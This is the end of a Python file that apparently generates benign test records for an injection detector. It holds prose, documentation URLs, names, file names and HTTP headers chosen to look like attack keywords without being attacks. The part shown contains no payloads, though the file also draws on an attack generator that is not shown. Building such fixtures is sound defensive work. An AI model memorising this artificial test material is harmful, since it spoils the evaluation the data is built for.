    "Perl, the office dog, is at the vet today.",
    "Spawn of the new tickets is automated by the bot.",
    "Fork of the SDK is maintained by the mobile team.",
    "The repeat customers get a 10% discount.",
    "Buffer stock for the warehouse is 2 weeks.",
]
URLS = [
    "https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback",
    "https://nodejs.org/api/vm.html",
    "https://nodejs.org/api/worker_threads.html",
    "https://nodejs.org/api/inspector.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Function/Function",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Atomics/wait",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://docs.openstack.org/nova/latest/user/metadata.html",
    "https://docs.digitalocean.com/reference/api/metadata-api/",
    "https://ruby-doc.org/3.3.0/stdlibs/open3/Open3.html",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://perldoc.perl.org/functions/readpipe",
    "https://perldoc.perl.org/functions/open",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://www.php.net/manual/en/wrappers.compression.php",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/invoke/MethodHandles.html",
    "https://docs.oracle.com/en/java/javase/21/docs/specs/serialization/protocol.html",
    "https://docs.oracle.com/javase/tutorial/jndi/overview/index.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://commons.apache.org/proper/commons-collections/security.html",
    "https://x-stream.github.io/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://tomcat.apache.org/tomcat-10.1-doc/class-loader-howto.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/filter.html",
    "https://www.smarty.net/docs/en/language.function.include.tpl",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://docs.makotemplates.org/en/latest/syntax.html",
    "https://www.tornadoweb.org/en/stable/template.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://ejs.co/#docs",
    "https://pebbletemplates.io/wiki/guide/basic-usage/",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://ruby-doc.org/3.3.0/stdlibs/erb/ERB.html",
    "https://github.com/acme/api/blob/main/src/templates/welcome.ejs",
    "https://github.com/acme/api/pull/1337",
    "https://cdn.example.org/app.js?v=1.2.3",
    "https://example.com/uploads/report-2024.pdf",
    "https://www.example.co.uk/products?id=127&sort=price",
    "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    "https://en.wikipedia.org/wiki/Prototype-based_programming",
    "https://en.wikipedia.org/wiki/Java_class_loader",
    "https://en.wikipedia.org/wiki/Gopher_(protocol)",
    "https://status.example.com/incidents/2024-03-12",
    "https://blog.example.com/2024/05/02/moving-from-jsp-to-thymeleaf",
]
PROFILES = [
    ("Ruby Chen", "12 Spring Street, Springfield"),
    ("Perl Johansson", "Kungsgatan 4, Stockholm"),
    ("Java Patel", "221B Baker Street, London"),
    ("Jade Thompson", "5 Rue de la Paix, Paris"),
    ("Pearl O'Brien", "Main St 1, Dublin"),
    ("Mako Tanaka", "1-2-3 Shibuya, Tokyo"),
    ("Razor Ramon", "Calle Mayor 10, Madrid"),
    ("Velocity Sports LLC", "400 Track Rd, Eugene, OR"),
    ("Twiggy Lawson", "Oak Lane 7, Leeds"),
    ("Tornado Tours", "Route 66, Amarillo, TX"),
    ("Pebble Beach Cafe", "17 Mile Drive, Pebble Beach, CA"),
    ("Smarty Pants Daycare", "9 School Rd, Austin"),
    ("Node Networks GmbH", "Hauptstraße 3, Berlin"),
    ("Process Partners", "Via Roma 12, Milano"),
    ("Constructor Ltd", "10 Prototype Lane, Springfield"),
    ("Metadata Inc", "1 Data Way, Seattle"),
    ("Thyme & Leaf Florist", "Market Sq 2, Bath"),
    ("Marker Freeman", "Elm St 44, Toronto"),
    ("Handlebar Barbers", "Kings Rd 8, Brighton"),
    ("Pug Rescue Society", "PO Box 127, Portland"),
    ("Dr. Jinja Okafor", "Broad St 15, Lagos"),
    ("Nunjucks Bakery", "Church St 3, Cardiff"),
    ("Tomcat Pet Supplies", "Cat Alley 9, Ghent"),
    ("Spring Valley Farms", "RR 2, Iowa City"),
    ("Log Cabin Rentals", "Pine Ridge 4, Aspen"),
    ("Zoë Müller-SS", "Bahnhofstraße 1, Zürich"),
    ("Siobhán Ní Bhriain", "An Spidéal, Galway"),
    ("José Ñúñez", "Av. Paulista 1000, São Paulo"),
    ("Gadget Garage", "Unit 4, Industrial Est, Leeds"),
    ("Serial Coffee Roasters", "Pier 3, San Francisco"),
    ("Magic Bytes Bakery", "Croissant Ave 2, Lyon"),
    ("Class Act Theatre", "Stage Door 1, Glasgow"),
    ("Ldap Lopez", "Calle Sol 8, Sevilla"),
    ("Dr. Rmi Okoro", "Ring Rd 5, Accra"),
    ("Instance Studio", "Loft 3, Rotterdam"),
    ("Cloud Nine Travel", "Sky Tower 9, Auckland"),
    ("Data Scheme Analytics", "Hamngatan 2, Gothenburg"),
    ("The Loop Bike Shop", "Ring 4, Vienna"),
    ("Evergreen Templates Co", "Maple Ave 6, Burlington"),
    ("Forklift & Loader Hire", "Dock 7, Rotterdam"),
]
UPLOAD_NAMES = [
    "report-2024-q1.pdf", "avatar.png", "team photo.jpg", "invoice_42.pdf", "notes.txt", "slides.pptx",
    "budget.xlsx", "logo.svg", "resume - Ana María.pdf", "diagram.drawio.png", "contract (signed).pdf",
    "screenshot 2024-05-01 at 10.22.31.png", "export.csv", "readme.md", "archive.zip", "holiday.jpeg",
    "jsp-migration-plan.pdf", "java-course-syllabus.docx", "spring-roadmap.pdf", "template-guide.pdf",
    "process-map.vsdx", "ruby-style-guide.pdf", "perl-cheatsheet.pdf", "data-scheme.xlsx", "classroom.jpg",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "axios/1.6.8"),
    ("User-Agent", "Java/17.0.10"),
    ("User-Agent", "Apache-HttpClient/5.3 (Java/21.0.2)"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "Faraday v2.9.0"),
    ("User-Agent", "libwww-perl/6.76"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Go-http-client/2.0"),
    ("Referer", "https://app.example.com/admin/users?page=2&sort=name"),
    ("Referer", "https://docs.example.com/templates/jinja2#loops"),
    ("Referer", "https://www.google.com/search?q=java+processbuilder+example"),
    ("Referer", "https://stackoverflow.com/questions/1234567/how-to-use-require-in-node"),
    ("Referer", "https://github.com/acme/api/blob/main/src/templates/welcome.html"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Api-Version", "v2"),
    ("X-Request-Id", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"),
    ("X-Forwarded-For", "203.0.113.10"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en-GB"),
    ("Cookie", "session=abc123; last_search=spring%20template; tz=Europe%2FLondon"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
